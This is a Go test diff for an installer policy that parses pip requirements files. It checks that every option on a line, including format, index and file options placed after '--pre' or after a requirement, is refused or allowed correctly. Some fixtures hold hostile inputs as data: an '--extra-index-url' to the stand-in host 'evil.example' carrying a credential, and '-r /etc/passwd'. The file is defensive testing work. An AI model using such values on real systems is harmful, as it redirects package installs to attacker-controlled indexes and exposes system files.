@@ -243,3 +243,51 @@ func TestPipPlanPrivateCacheUnlessWheelsOnly(t *testing.T) {
 		})
 	}
 }
+
+// pip reads every option of a requirements-file line, not its first alone:
+// "--pre --no-binary :all:" lets sdists in as "--no-binary :all:" does, and
+// so does an option after a requirement ("rich --no-binary :all:": pip's
+// parser runs the format options' callbacks on every line). Checked with
+// pip 23.2: `pip download --only-binary=:all: -r FILE` takes the sdist
+// and runs its setup.py for both files. So each option of every line is
+// held to the rules, wherever it stands.
+func TestPipPlanEveryOptionOfALineCounts(t *testing.T) {
+	for _, c := range []struct {
+		name, file string
+		private    bool
+		refused    string // "" when the plan is made
+	}{
+		{"a format option behind --pre", "--pre --no-binary :all:\nrich\n", true, ""},
+		{"a format option behind --prefer-binary, = form", "--prefer-binary --only-binary=:none:\nrich\n", true, ""},
+		{"a format option after a requirement", "rich --no-binary :all:\n", false, "--no-binary"},
+		{"an unknown option after a requirement", "rich --no-bin :all:\n", false, "--no-bin"},
+		{"an index option behind --pre", "--pre --extra-index-url https://tok:FILEPW@evil.example/simple\nrich\n", false, "--extra-index-url"},
+		{"a file option behind --pre", "--pre -r /etc/passwd\nrich\n", false, "option -r"},
+		{"-e behind --pre", "--pre -e .\nrich\n", false, "option -e"},
+		{"an unknown option behind --pre", "--pre --no-bin=:all:\nrich\n", false, "--no-bin"},
+		{"a stray word behind an option", "--pre rich\n", false, "rich"},
+		{"a format option behind a file", "-r more.txt --no-binary :all:\nrich\n", false, "on a line of its own"},
+		{"an index option with more", "--index-url https://idx.example/simple --no-binary :all:\nrich\n", false, "on a line of its own"},
+		{"per-requirement hashes stay", "rich==13.7.1 --hash=sha256:abc --hash sha256:def\n", false, ""},
+		{"single options stay", "--pre\n--prefer-binary\nrich\n", false, ""},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			p, err := pipPlan(t, map[string]string{"requirements.txt": c.file}, nil, false, "install", "--only-binary=:all:", "-r", "requirements.txt")
+			if c.refused != "" {
+				if !errors.Is(err, install.ErrPolicy) || !strings.Contains(err.Error(), c.refused) || strings.Contains(err.Error(), "FILEPW") {
+					t.Fatalf("got %v, want a refusal naming %s", err, c.refused)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if p.PrivateCache != c.private {
+				t.Errorf("PrivateCache %v, want %v", p.PrivateCache, c.private)
+			}
+			if got := inputData(p, "requirements.txt"); got != c.file {
+				t.Errorf("copied requirements.txt %q, want %q", got, c.file)
+			}
+		})
+	}
+}
